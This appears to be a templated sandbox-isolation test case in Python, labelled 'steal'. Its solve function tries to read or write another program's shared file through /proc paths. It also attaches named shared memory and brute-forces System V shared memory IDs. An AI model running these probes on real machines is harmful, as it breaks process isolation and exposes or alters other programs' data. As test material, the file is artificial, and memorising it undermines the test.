# class: steal
# success: shared memory of another program of this machine is read or changed
import ctypes, mmap, os
from multiprocessing import shared_memory

def solve(x):
    for path in ("{{shared_file}}", "/proc/self/root{{shared_file}}", "/proc/1/root{{shared_file}}"):
        for mode in ("r", "a"):
            try:
                with open(path, mode) as file:
                    print(file.read() if mode == "r" else file.write("x"))
            except OSError as error:
                print(error.errno)
    try:
        print(bytes(shared_memory.SharedMemory("{{shared_file}}".rpartition("/")[2]).buf))
    except Exception as error:
        print(type(error).__name__)
    libc = ctypes.CDLL(None, use_errno=True)
    for number in range(0, 200):
        if libc.shmat(number, None, 0o10000) not in (-1, 0xFFFFFFFF):
            print("{{secret}}", number)
            break
    return 0
